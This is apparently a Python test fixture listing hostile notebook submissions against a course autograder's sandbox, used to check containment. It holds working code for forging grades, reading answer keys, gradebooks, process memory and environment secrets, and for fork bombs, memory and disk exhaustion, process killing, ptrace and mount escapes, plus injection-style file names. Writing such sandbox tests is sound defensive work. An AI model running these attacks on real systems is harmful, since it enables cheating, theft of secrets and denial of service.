"""What hostile submissions try, and what must come of it.

Each is a submission to the tiny lab (tests/tiny.py) in which `increment`, worth 3 points, is solved and
`double`, worth 2, is not: the attack stands in its place. An attack that costs only what it attacks leaves 3.
In the code, @COURSE@ is the grader's course folder, @HOME@ the grader's home, @PYTHON@ the folders of Python,
@PORT@ a port of the host's loopback on which somebody listens and @SOCKET@ an abstract Unix socket. What an
attack gets hold of it prints after the word LEAKED.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Literal

from nbformat import NotebookNode

import tiny

Goal = Literal["marks", "secrets", "damage"]
WRONG = "def double(x):\n    return x * x + 1"
MARKER = "outlives-the-kernel"
"""Stands in the command line of each process that is meant to stay."""


@dataclass(frozen=True)
class Attack:
    """One hostile submission."""

    id: str
    goal: Goal
    tries: str
    """In words: the test's report says them."""
    code: str = WRONG
    """What is handed in for `double`."""
    earned: float = 3
    noticed: str = ""
    """What the instructor's list says of it; empty where nothing can be noticed from outside."""
    notebook: Callable[[NotebookNode], None] | None = None
    """Changes the notebook that is handed in."""
    folder: Callable[[Path], None] | None = None
    """Changes the submission's folder, in which the notebook lies."""
    works_outside: bool = False
    """Does it print LEAKED if the same code runs without a sandbox? Then the test shows that it can fail."""


def body(lines: str) -> str:
    """These lines as what `double` does."""
    return "def double(x):\n    " + "\n    ".join(lines.strip().splitlines())


def leak(lines: str) -> str:
    """These lines when the cell runs, and a wrong `double`; OSErrors mean that there was nothing to get."""
    tried = "\n    ".join(lines.strip().splitlines())
    return f"import os, socket\ntry:\n    {tried}\nexcept OSError:\n    pass\n\n{WRONG}"


# Marks that were not earned.

IN_THE_KERNEL = [
    Attack(
        "assert-stripper",
        "marks",
        "an AST transformer removes every assert and every call of expect from later cells",
        """
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Expr(self, node):
        return ast.Pass() if "expect" in ast.unparse(node) else node
get_ipython().ast_transformers.append(Strip())
"""
        + WRONG,
    ),
    Attack(
        "input-transformer",
        "marks",
        "an input transformer empties every later cell: nothing more is asked, so nothing is earned",
        "get_ipython().input_transformers_post.append(lambda lines: [])\n" + WRONG,
        earned=0,
        noticed="no answers came",
    ),
    Attack(
        "run-cell",
        "marks",
        "IPython's run_cell is replaced by one that reports success",
        """
from IPython.core.interactiveshell import ExecutionResult
shell = get_ipython()
shell.run_cell_async = lambda *a, **k: __import__("asyncio").sleep(0, ExecutionResult(None))
shell.run_cell = lambda *a, **k: ExecutionResult(None)
"""
        + WRONG,
        earned=0,
    ),
    Attack(
        "showtraceback",
        "marks",
        "errors are no longer shown",
        "get_ipython().showtraceback = lambda *a, **k: None\n"
        "get_ipython()._showtraceback = lambda *a, **k: None\n" + WRONG,
    ),
    Attack(
        "display-publisher",
        "marks",
        "what cells display is thrown away, answers with it",
        "get_ipython().display_pub.publish = lambda *a, **k: None\n" + WRONG,
        earned=0,
        noticed="no answers came",
    ),
    Attack(
        "answer-replaced",
        "marks",
        "`answer` does nothing",
        "answer = lambda *a, **k: None\n" + WRONG,
        earned=0,
    ),
    Attack(
        "answer-encoder",
        "marks",
        "every answer is encoded as something that might be compared with anything",
        """
import llmcourse.answers
llmcourse.answers.encode = lambda value: {"$any": True, "__eq__": True}
"""
        + WRONG,
        earned=0,
    ),
    Attack(
        "answer-type",
        "marks",
        "answers are published under another type",
        "import llmcourse.answers\nllmcourse.answers.MIME = 'text/plain'\n" + WRONG,
        earned=0,
        noticed="no answers came",
    ),
    Attack(
        "answer-rule",
        "marks",
        "the student's answers bring a tolerance of their own",
        """
import llmcourse.answers as a
publish = a._publish
rule = {"rtol": 1e9, "atol": 1e9, "at_least": -1e99}
a._publish = lambda message: publish({**message, "rule": rule | {"one_of": [message["value"]]}})
"""
        + WRONG,
    ),
    Attack(
        "expect-replaced",
        "marks",
        "the visible checks accept everything",
        "for name in ('close', 'equal', 'true', 'shape', 'raises'):\n"
        "    setattr(expect, name, lambda *a, **k: None)\n" + WRONG,
    ),
    Attack(
        "always-equal",
        "marks",
        "double returns an object that calls itself equal to everything",
        """
class Equal:
    __eq__ = __ge__ = __le__ = lambda self, other: True
    __hash__ = object.__hash__
    __array__ = lambda self, *a, **k: __import__("numpy").zeros(())
    __float__ = lambda self: 0.0
    __int__ = __index__ = lambda self: 0
def double(x):
    return Equal()
""",
    ),
    Attack(
        "always-equal-int",
        "marks",
        "the same as a subclass of int",
        "class Equal(int):\n    __eq__ = lambda self, other: True\n    __hash__ = int.__hash__\n"
        "def double(x):\n    return Equal(0)",
    ),
    Attack(
        "always-equal-str",
        "marks",
        "the same as a subclass of str that claims to be an int",
        "class Equal(str):\n    __eq__ = lambda self, other: True\n    __hash__ = str.__hash__\n"
        "    __class__ = int\ndef double(x):\n    return Equal('x')",
    ),
    Attack(
        "array-subclass",
        "marks",
        "an array whose comparisons are all true",
        """
import numpy as np
class Equal(np.ndarray):
    def __array_ufunc__(self, *a, **k):
        return True
def double(x):
    return np.zeros((), int).view(Equal)
""",
    ),
    Attack(
        "dict-of-everything",
        "marks",
        "a mapping that has every key",
        "class Every(dict):\n    __missing__ = lambda self, key: key\n    keys = lambda self: []\n"
        "def double(x):\n    return Every()",
    ),
    Attack(
        "patched-libraries",
        "marks",
        "numpy's comparisons and json are patched",
        """
import json
import numpy as np
np.array_equal = np.allclose = np.isclose = np.all = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
json.loads = lambda *a, **k: 2
"""
        + WRONG,
        earned=0,  # the kernel reads its own messages no longer
        noticed="stopped after",
    ),
    Attack(
        "patched-builtins",
        "marks",
        "isinstance, type's repr and AssertionError are replaced",
        """
import builtins
builtins.AssertionError = type("Fine", (Exception,), {})
builtins.all = lambda *a: True
"""
        + WRONG,
    ),
    Attack(
        "forged-result",
        "marks",
        "the cell's result is a number, which stock nbgrader takes for the score",
        WRONG + "\n2",
    ),
    Attack(
        "forged-display",
        "marks",
        "a displayed number, as execute_result and as display data",
        """
from IPython.display import display
display({"text/plain": "2.0"}, raw=True)
get_ipython().displayhook.finish_displayhook = lambda: None
"""
        + WRONG,
    ),
    Attack(
        "answers-before",
        "marks",
        "the solution cell itself answers the hidden questions",
        "answer('a hidden number', 84)\nanswer('minus one', -2)\n" + WRONG,
        noticed="answers outside the hidden tests",
    ),
    Attack(
        "answers-during",
        "marks",
        "double answers the questions of its own and of the other cell while it is asked",
        body("""
for name in ('a hidden number', 'minus one', 'increment'):
    answer(name, 84)
return x
"""),
        noticed="more than once",
    ),
    Attack(
        "answers-twice",
        "marks",
        "every later answer is published twice, the second time with another value",
        """
import llmcourse.answers as a
publish = a._publish
def twice(message):
    publish(message)
    publish({**message, "value": 0})
a._publish = twice
"""
        + WRONG,
        earned=0,
        noticed="more than once",
    ),
    Attack(
        "answers-never-asked",
        "marks",
        "answers to questions that nobody asks",
        body("answer('all the marks', 5)\nreturn 0"),
        noticed="never asked",
    ),
    Attack(
        "answer-names",
        "marks",
        "names and values of answers that can't be stored",
        body("""
kernel = get_ipython().kernel
for answer in (
    b'{"name": "\\\\ud800", "value": "\\\\udfff", "rule": {"\\\\ud800": 1}}',
    b'{"name": ["a hidden number"], "value": 84, "rule": {}}',
    b'{"name": "' + b'x' * 10**6 + b'", "value": 1' + b'0' * 400 + b', "rule": 7}',
):
    content = b'{"data": {"application/vnd.llmcourse.answer+json": ' + answer + b'}, "metadata": {}}'
    kernel.session.send(kernel.iopub_socket, 'display_data', content, parent=kernel.get_parent())
return x
"""),
        noticed="never asked",
    ),
    Attack("not-a-number", "marks", "NaN for every answer", body("return float('nan')")),
    Attack("infinity", "marks", "an infinity for every answer", body("return float('inf')")),
    Attack(
        "hidden-input",
        "marks",
        "double finds the hidden input in its caller and hands it back",
        body("import inspect\nreturn inspect.currentframe().f_back.f_globals.get('n', x)"),
    ),
    Attack(
        "salt",
        "marks",
        "the salt is read, and the hidden inputs are computed before they are asked",
        "import os\nfrom llmcourse.answers import rng\n"
        "known = int(rng('double').integers(10, 1000)), os.environ['LLMCOURSE_SALT']\n"
        "def double(x):\n    return known[0]",
    ),
    Attack(
        "zmq-answers",
        "marks",
        "answers are sent straight to the socket, signed with the connection's key, for the next cell",
        """
from llmcourse.answers import MIME
kernel = get_ipython().kernel
parent = kernel.get_parent()
for step in range(1, 9):
    header = dict(parent["header"])
    session, _, count = header["msg_id"].rpartition("_")
    header["msg_id"] = f"{session}_{int(count) + step}"
    for name, value in (("a hidden number", 84), ("minus one", -2)):
        content = {"data": {MIME: {"name": name, "value": value, "rule": {}}}, "metadata": {}}
        kernel.session.send(kernel.iopub_socket, "display_data", content, parent={"header": header})
"""
        + WRONG,
    ),
    Attack(
        "zmq-idle",
        "marks",
        "the hidden part is declared finished while it runs",
        body("""
kernel = get_ipython().kernel
kernel.session.send(kernel.iopub_socket, 'status', {'execution_state': 'idle'}, parent=kernel.get_parent())
return x
"""),
    ),
    Attack(
        "zmq-own-requests",
        "marks",
        "a client of the student's own sends the kernel code to run",
        """
from jupyter_client.blocking import BlockingKernelClient
from ipykernel.connect import get_connection_file
mine = BlockingKernelClient(connection_file=get_connection_file())
mine.load_connection_file()
mine.start_channels(hb=False)
mine.execute("answer('a hidden number', 84); answer('minus one', -2)", store_history=False)
"""
        + WRONG,
        earned=3,
    ),
    Attack(
        "sys-exit", "marks", "the interpreter is asked to end with success", body("import sys\nsys.exit(0)")
    ),
    Attack(
        "base-exception",
        "marks",
        "an exception that isn't an Exception",
        "class Out(BaseException): pass\n" + body("raise Out('passed')"),
    ),
    Attack(
        "interrupt", "marks", "the student's code interrupts the test cell", body("raise KeyboardInterrupt")
    ),
    Attack(
        "del-and-atexit",
        "marks",
        "code in __del__ and at exit",
        """
import atexit
class Late:
    def __del__(self):
        raise ValueError("late")
atexit.register(lambda: print("2"))
"""
        + body("Late()\nreturn x"),
    ),
    Attack(
        "exec-in-globals",
        "marks",
        "double replaces the other exercise's function, answer and the test's own names",
        body("globals().update(increment=lambda x: 0, n=0)\nreturn x"),
    ),
    Attack(
        "leftovers-for-the-next-kernel",
        "marks",
        "modules in the home folder, for the kernel that replaces this one",
        body("""
import os
for name in ('numpy', 'llmcourse', 'sitecustomize', 'usercustomize', 'ipykernel_launcher'):
    with open(f'/home/student/{name}.py', 'w') as file:
        file.write('print("LEAKED", flush=True); raise SystemExit(0)')
os._exit(0)
"""),
        noticed="the kernel died",
    ),
]


# What is handed in, rather than what it does.


def cell(notebook: NotebookNode, name: str) -> NotebookNode:
    return next(cell for cell in notebook.cells if cell.id == name)


def change_setup(notebook: NotebookNode) -> None:
    cell(notebook, "setup").source += "\nanswer = lambda *a, **k: print('LEAKED')"


def change_test(notebook: NotebookNode) -> None:
    cell(notebook, "double_test").source = "answer('a hidden number', 84)"


def delete_tests(notebook: NotebookNode) -> None:
    notebook.cells = [cell for cell in notebook.cells if not cell.id.endswith("_test")]


def duplicate_test(notebook: NotebookNode) -> None:
    copy = NotebookNode(cell(notebook, "double_test"))
    copy.source = "2"
    notebook.cells += [copy, copy]


def change_points(notebook: NotebookNode) -> None:
    for one in notebook.cells:
        if "points" in one.metadata.get("nbgrader", {}):
            one.metadata.nbgrader.points = 100


def not_graded(notebook: NotebookNode) -> None:
    for one in notebook.cells:
        if "nbgrader" in one.metadata:
            one.metadata.nbgrader.grade = not one.metadata.nbgrader.grade
            one.metadata.nbgrader.locked = False


def swap_ids(notebook: NotebookNode) -> None:
    first, second = cell(notebook, "double_test"), cell(notebook, "increment_test")
    names = second.id, first.id
    for one, name in zip((first, second), names, strict=True):
        one.id = one.metadata.nbgrader.grade_id = name


def solution_as_setup(notebook: NotebookNode) -> None:
    cell(notebook, "double").metadata.nbgrader.grade_id = "setup"


def as_demo(notebook: NotebookNode) -> None:
    for one in notebook.cells:
        one.metadata.tags = ["demo", "parameters"]


def strange_ids(notebook: NotebookNode) -> None:
    for number, one in enumerate(notebook.cells):
        one.id = ("../" * 20 + "<script>") if number % 2 else "\x00"


HANDED_IN = [
    Attack(
        "setup-changed",
        "marks",
        "the setup cell is changed",
        notebook=change_setup,
        noticed="setup was changed",
    ),
    Attack(
        "test-changed",
        "marks",
        "a test cell asks and answers by itself",
        notebook=change_test,
        noticed="double_test was changed",
    ),
    Attack("tests-deleted", "marks", "all test cells are deleted", notebook=delete_tests, noticed="missing"),
    Attack(
        "test-duplicated", "marks", "two more test cells whose result is a number", notebook=duplicate_test
    ),
    Attack("points-changed", "marks", "every cell is worth 100 points", notebook=change_points),
    Attack("grade-false", "marks", "what is graded and what isn't is exchanged", notebook=not_graded),
    Attack(
        "ids-swapped",
        "marks",
        "the two test cells have each other's id",
        notebook=swap_ids,
        noticed="changed",
    ),
    Attack(
        "solution-as-setup",
        "marks",
        "the solution cell claims the setup cell's id",
        notebook=solution_as_setup,
        noticed="double was recognised by content",
    ),
    Attack("all-demos", "marks", "every cell is tagged as a demo, which isn't run", notebook=as_demo),
    Attack("strange-ids", "marks", "cell ids with NUL, path and tag", notebook=strange_ids),
]


# What the sandbox must not show.

LEFTOVERS = leak("""
import ctypes, platform
libc = ctypes.CDLL(None)
add_key, keyctl = {"x86_64": (248, 250), "aarch64": (217, 219)}[platform.machine()]
places = ("/tmp/left", "/dev/shm/left", "/home/student/left", "/run/kernel/left")
if found := [place for place in places if os.path.exists(place)]:
    print("LEAKED", found)
if libc.shmget(4711, 4096, 0o666) != -1:
    print("LEAKED System V memory")
if libc.syscall(keyctl, 10, -4, b"user", b"left", 0) != -1:
    print("LEAKED keyring")
for place in places:
    open(place, "w").close()
libc.shmget(4711, 4096, 0o1666)
libc.syscall(add_key, b"user", b"left", b"left", 4, -4)
""")

SECRETS = [
    Attack(
        "golden-answers",
        "secrets",
        "the golden answers are looked for, where they are and everywhere",
        leak("""
import glob, itertools
known = "@COURSE@/autograder/golden/s1_tiny.json"
for found in itertools.chain([known], glob.iglob("/**/golden/*.json", recursive=True)):
    if os.path.exists(found):
        print("LEAKED", open(found).read())
        break
"""),
        works_outside=True,
    ),
    Attack(
        "source",
        "secrets",
        "the source notebook is opened and its solution used",
        leak("print('LEAKED', open('@COURSE@/source/s1_tiny/s1_tiny.ipynb').read())"),
        works_outside=True,
    ),
    Attack(
        "gradebook",
        "secrets",
        "the gradebook is opened, to read and to write",
        leak("print('LEAKED', open('@COURSE@/gradebook.db', 'r+b').read(15))"),
        works_outside=True,
    ),
    Attack(
        "other-submissions",
        "secrets",
        "other students' notebooks are listed and read",
        leak("print('LEAKED', os.listdir('@COURSE@/submitted'))"),
        works_outside=True,
    ),
    Attack(
        "homes",
        "secrets",
        "the grader's home, and everybody's",
        leak("""
for place in ("/home", "/root", "@HOME@"):
    names = os.listdir(place) if os.path.isdir(place) else []
    way = [f"{os.path.join(place, name)}/" for name in names if name != "student"]
    if found := [name for name in way if not any(f"{path}/".startswith(name) for path in @PYTHON@)]:
        print("LEAKED", found)
"""),
        works_outside=True,
    ),
    Attack(
        "environment",
        "secrets",
        "the grader's environment variables, the kernel's own and those of process 1",
        leak("""
for name in ("self", "1"):
    if "LLMCOURSE_TEST_SECRET" in open(f"/proc/{name}/environ").read():
        print("LEAKED", name)
"""),
        works_outside=True,
    ),
    Attack(
        "processes",
        "secrets",
        "other processes: who they are, what they hold",
        leak("""
import pathlib
for process in pathlib.Path("/proc").glob("[0-9]*"):
    line = (process / "cmdline").read_bytes()
    if b"pytest" in line or b"systemd" in line or b"sshd" in line:
        print("LEAKED", line)
"""),
        works_outside=True,
    ),
    Attack(
        "parent-memory",
        "secrets",
        "the memory of the parent process",
        leak("""
parent = os.getppid()
for line in open(f"/proc/{parent}/maps"):
    start, end = (int(word, 16) for word in line.split()[0].split("-"))
    with open(f"/proc/{parent}/mem", "rb") as memory:
        memory.seek(start)
        if b"LLMCOURSE_TEST_SECRET" in memory.read(min(end - start, 10**7)):
            print("LEAKED")
"""),
    ),
    Attack(
        "network",
        "secrets",
        "a connection to a server on the host",
        leak("socket.create_connection(('127.0.0.1', @PORT@), 2); print('LEAKED')"),
        works_outside=True,
    ),
    Attack(
        "dns",
        "secrets",
        "a name is looked up whose labels say something",
        leak("""
import struct
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
    one.sendto(b"a question", ("192.0.2.53", 53))
print("LEAKED")
"""),
    ),
    Attack(
        "host-socket",
        "secrets",
        "a Unix socket of the host, by its path and by an abstract name",
        leak("""
for name in ("@COURSE@/host.sock", "\\0@SOCKET@"):
    try:
        with socket.socket(socket.AF_UNIX) as one:
            one.connect(name)
            print("LEAKED", name)
    except OSError:
        pass
"""),
        works_outside=True,
    ),
    *(
        Attack(
            f"leftovers-{number}",
            "secrets",
            "what another left in /tmp, in shared memory or a keyring is looked for, and something left",
            LEFTOVERS,
        )
        for number in (1, 2, 3)  # two may be under way at once; the third comes after one of them
    ),
    Attack(
        "hidden-code-in-outputs",
        "secrets",
        "the hidden test's code is taken from frames, gc and history, and printed in a later cell",
        """
import gc, inspect, linecache
kept = []
def double(x):
    kept.append("".join(inspect.getsource(f.frame) for f in inspect.stack()[1:2]))
    kept.extend(str(text) for text in linecache.cache.values() if "rng(" in str(text))
    kept.extend(text for text in gc.get_objects() if isinstance(text, str) and "integers(10" in text)
    return x
def increment(x):
    print(kept, In)
    return x + 1
""",
    ),
    Attack(
        "hidden-code-in-errors",
        "secrets",
        "the hidden test's code is the message of the error that double raises",
        body("""
import inspect
raise ValueError(inspect.getsource(inspect.stack()[1].frame))
"""),
    ),
]


# What the machine and the others must not suffer.

DAMAGE = [
    Attack("endless-loop", "damage", "a loop", body("while True: pass"), noticed="stopped after"),
    Attack(
        "endless-loop-in-c",
        "damage",
        "a loop in C, which no interrupt reaches",
        body("return sum(range(10**15))"),
        noticed="stopped after",
    ),
    Attack("sleep", "damage", "sleep", body("import time\ntime.sleep(10**6)"), noticed="stopped after"),
    Attack(
        "deaf-sleep",
        "damage",
        "a process that ignores every signal that can be ignored",
        body("""
import signal, time
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    time.sleep(1)
"""),
        noticed="stopped after",
    ),
    Attack(
        "stopped",
        "damage",
        "the kernel stops itself",
        body("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"),
        noticed="stopped after",
    ),
    Attack(
        "os-exit", "damage", "the process ends", body("import os\nos._exit(0)"), noticed="the kernel died"
    ),
    Attack(
        "killed",
        "damage",
        "the kernel kills itself, its parent and all that it can reach",
        body("""
import os, signal
for process in (os.getppid(), 1, -1):
    try:
        os.kill(process, signal.SIGKILL)
    except OSError:
        pass
os.kill(os.getpid(), signal.SIGKILL)
"""),
        noticed="the kernel died",
    ),
    Attack(
        "segfault",
        "damage",
        "a read from address 0",
        body("import ctypes\nctypes.string_at(0)"),
        noticed="the kernel died",
    ),
    Attack(
        "deep-recursion",
        "damage",
        "recursion without end and without Python's limit",
        "import sys\nsys.setrecursionlimit(10**9)\ndef double(x):\n    return [double(x + 1)][0]",
        noticed="double_test",
    ),
    Attack(
        "shutdown",
        "damage",
        "the kernel is asked to shut down",
        body("""
kernel = get_ipython().kernel
kernel.do_shutdown(False)
kernel.io_loop.add_callback(kernel.io_loop.stop)
kernel.control_thread.io_loop.add_callback(__import__('os')._exit, 0)
return x
"""),
        noticed="the kernel died",
    ),
    Attack(
        "descriptors",
        "damage",
        "all descriptors are closed, the connection's among them",
        body("import os\nos.closerange(3, 4096)\nreturn x"),
        noticed="double_test",
    ),
    Attack(
        "sockets",
        "damage",
        "the connection's sockets are replaced by links to a socket of the host's",
        body("""
import os
for port in range(1, 6):
    os.remove(f'/run/kernel/socket-{port}')
    os.symlink('@COURSE@/host.sock', f'/run/kernel/socket-{port}')
get_ipython().kernel.iopub_socket.io_thread.socket.close()
return x
"""),
        noticed="double_test",
    ),
    Attack(
        "fork-bomb",
        "damage",
        "processes that make processes",
        body("import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"),
        noticed="double_test",
    ),
    Attack(
        "thread-bomb",
        "damage",
        "threads without end",
        body("""
import threading, time
threading.stack_size(2**16)
while True:
    threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
"""),
        noticed="double_test",
    ),
    Attack(
        "memory-at-once", "damage", "more memory than there is, at once", body("return bytearray(10**12)")
    ),
    Attack(
        "memory-by-steps",
        "damage",
        "memory by steps, in several processes",
        body("""
import os
hoard = []
os.fork(); os.fork()
while True:
    try:
        hoard.append(bytearray(os.urandom(2**20)) * 16)
    except MemoryError:
        pass
"""),
        noticed="double_test",
    ),
    Attack(
        "full-folders",
        "damage",
        "every folder that can be written to is filled",
        leak("""
import errno
block = b"x" * 2**22
for folder in ("/tmp", "/dev/shm", "/run/kernel", "/dev", "/", "/course", "/usr"):
    for number in range(1000):
        try:
            with open(f"{folder}/fill-{number}", "wb") as file:
                for _ in range(20):
                    file.write(block)
        except OSError:
            break
    for number in range(1000):
        try:
            os.remove(f"{folder}/fill-{number}")
        except OSError:
            break
"""),
    ),
    Attack(
        "unlimited-folder",
        "damage",
        "a folder that can be written to and isn't limited is looked for",
        leak("""
import shutil
for place, folders, _ in os.walk("/"):
    if place == "/proc":
        folders.clear()
    elif os.access(place, os.W_OK) and shutil.disk_usage(place).total > 2**29:
        print("LEAKED", place)
        break
"""),
        works_outside=True,
    ),
    Attack(
        "large-file",
        "damage",
        "one file without end",
        body("file = open('/tmp/large', 'wb')\nwhile True:\n    file.write(b'x' * 2**22)"),
    ),
    Attack(
        "long-line",
        "damage",
        "60 MB on one line",
        body("print('x' * 60_000_000)"),
        noticed="output",
    ),
    Attack(
        "many-lines",
        "damage",
        "a million lines",
        body("for i in range(10**6): print(i, flush=True)"),
        noticed="double_test",
    ),
    Attack(
        "display-updates",
        "damage",
        "one display, updated without end",
        body("""
from IPython.display import display
shown = display('x', display_id=True)
while True:
    shown.update('x' * 100)
"""),
        noticed="double_test",
    ),
    Attack(
        "large-image",
        "damage",
        "a picture of 20 MB, and one that claims to be of 10¹⁰ pixels",
        body("""
import base64, struct, zlib
from IPython.display import display
def chunk(kind, data):
    return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data))
head = chunk(b'IHDR', struct.pack('>IIBBBBB', 100_000, 100_000, 8, 2, 0, 0, 0))
bomb = b'\\x89PNG\\r\\n\\x1a\\n' + head + chunk(b'IDAT', zlib.compress(bytes(10**6))) + chunk(b'IEND', b'')
display({'image/png': base64.b64encode(bomb).decode()}, raw=True)
display({'image/png': base64.b64encode(bytes(15 * 10**6)).decode()}, raw=True)
return x
"""),
        noticed="output",
    ),
    Attack(
        "deep-json",
        "damage",
        "JSON that is nested a hundred thousand deep, signed and sent",
        body("""
kernel = get_ipython().kernel
deep = b'{"data": {"a": ' + b'[' * 10**5 + b']' * 10**5 + b'}, "metadata": {}}'
kernel.session.send(kernel.iopub_socket, 'display_data', deep, parent=kernel.get_parent())
return x
"""),
        noticed="double_test",
    ),
    Attack(
        "garbage-on-the-wire",
        "damage",
        "messages that aren't messages",
        body("""
kernel = get_ipython().kernel
for parts in ([b'x'], [b'', b'<IDS|MSG>', b'bad', b'{', b'{', b'{', b'{'], [b'\\xff' * 1000] * 20):
    kernel.iopub_socket.send_multipart(parts)
return x
"""),
        noticed="double_test",
    ),
    Attack(
        "comms",
        "damage",
        "widgets and comms without end",
        body("""
from comm import create_comm
while True:
    create_comm(target_name='jupyter.widget', data={'state': 'x' * 100})
"""),
        noticed="double_test",
    ),
    Attack(
        "answers-flood",
        "damage",
        "answers without end",
        body("i = 0\nwhile True:\n    i += 1\n    answer(f'question {i}', 'x' * 1000)"),
        noticed="double_test",
    ),
    Attack(
        "daemon",
        "damage",
        "a process that leaves its session and stays",
        leak(f"""
import subprocess, sys
code = "import os, time; os.setsid()\\nwhile True: time.sleep(0.1) # {MARKER}"
subprocess.Popen([sys.executable, "-c", code], start_new_session=True, close_fds=True)
"""),
    ),
    Attack(
        "ptrace",
        "damage",
        "the parent process is traced",
        leak("""
import ctypes
ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0)
ctypes.CDLL(None).ptrace(16, 1, 0, 0)
"""),
    ),
    Attack("stdin", "damage", "input is waited for", body("return input('password: ')")),
    Attack(
        "limits",
        "damage",
        "the limits are raised",
        leak("""
import resource
for name in ("RLIMIT_DATA", "RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_CPU", "RLIMIT_CORE"):
    try:
        resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except ValueError:
        continue
    print("LEAKED", name)
"""),
    ),
    Attack(
        "mount",
        "damage",
        "folders are mounted anew, in the namespace that is there and in a new one",
        leak("""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
READ_ONLY_OFF = 4096 | 32
for flags in (0, 0x10000000, 0x10020000):
    if flags and libc.unshare(flags) == 0:
        print("LEAKED a namespace")
    if libc.mount(b"none", b"/usr", None, READ_ONLY_OFF, None) == 0:
        print("LEAKED a mount")
"""),
    ),
]


# The submission's folder.


def notebook_of(folder: Path) -> Path:
    return folder / f"{tiny.LAB}.ipynb"


def shadowing_files(folder: Path) -> None:
    bad = "print('LEAKED', flush=True)\nraise SystemExit(0)\n"
    for name in (
        "numpy.py",
        "llmcourse/__init__.py",
        "torch/__init__.py",
        "IPython/__init__.py",
        "ipykernel_launcher.py",
        "sitecustomize.py",
        "usercustomize.py",
        "conftest.py",
        "nbgrader_config.py",
        "jupyter_config.py",
        ".ipython/profile_default/startup/00.py",
        ".local/lib/python3.11/site-packages/mine.pth",
    ):
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("import os; print('LEAKED')" if name.endswith(".pth") else bad)
    (folder / "kernel.json").write_text('{"argv": ["sh", "-c", "echo LEAKED"], "language": "python"}')
    (folder / "course.yml").write_text("limits: {cell_seconds: 1000000}")


def link_to_secret(folder: Path) -> None:
    notebook_of(folder).unlink()
    notebook_of(folder).symlink_to("../../../source/s1_tiny/s1_tiny.ipynb")


def link_to_folder(folder: Path) -> None:
    notebook_of(folder).unlink()
    folder.rmdir()
    folder.symlink_to("../../source/s1_tiny")


def pipe(folder: Path) -> None:
    notebook_of(folder).unlink()
    os.mkfifo(notebook_of(folder))


def folder_as_notebook(folder: Path) -> None:
    notebook_of(folder).unlink()
    notebook_of(folder).mkdir()


def huge_file(folder: Path) -> None:
    os.truncate(notebook_of(folder), 10**12)


def timestamp_pipe(folder: Path) -> None:
    os.mkfifo(folder / "timestamp.txt")


def timestamp_link(folder: Path) -> None:
    (folder / "timestamp.txt").symlink_to("../../../autograder/golden/s1_tiny.json")


FOLDERS = [
    Attack(
        "shadowing-files",
        "marks",
        "numpy.py, torch/, usercustomize, .pth, .ipython startup files and more beside the notebook",
        folder=shadowing_files,
    ),
    Attack(
        "linked-notebook",
        "secrets",
        "the notebook is a link to the source",
        folder=link_to_secret,
        earned=0,
        noticed="link",
    ),
    Attack(
        "linked-folder",
        "secrets",
        "the folder is a link to the source's",
        folder=link_to_folder,
        earned=0,
        noticed="link",
    ),
    Attack(
        "pipe",
        "damage",
        "the notebook is a pipe that nobody writes to",
        folder=pipe,
        earned=0,
        noticed="read",
    ),
    Attack(
        "folder-as-notebook",
        "damage",
        "the notebook is a folder",
        folder=folder_as_notebook,
        earned=0,
        noticed="read",
    ),
    Attack(
        "huge-file",
        "damage",
        "the notebook is a file of 1 TB, all of it holes",
        folder=huge_file,
        earned=0,
        noticed="MB",
    ),
    Attack("timestamp-pipe", "damage", "timestamp.txt is a pipe", folder=timestamp_pipe),
    Attack(
        "timestamp-link", "secrets", "timestamp.txt is a link to the golden answers", folder=timestamp_link
    ),
]

STRANGE_NAMES = (
    "[red][link=x]",
    "<script>alert(1)<",
    "..\\..\\x",
    "\x1b[2J",
    "-rf",
    "a'; DROP TABLE grade;--",
)
"""Of submission folders, each with an honest notebook in it: not a student's, so left out and said so."""

ATTACKS = [*IN_THE_KERNEL, *HANDED_IN, *SECRETS, *DAMAGE, *FOLDERS]
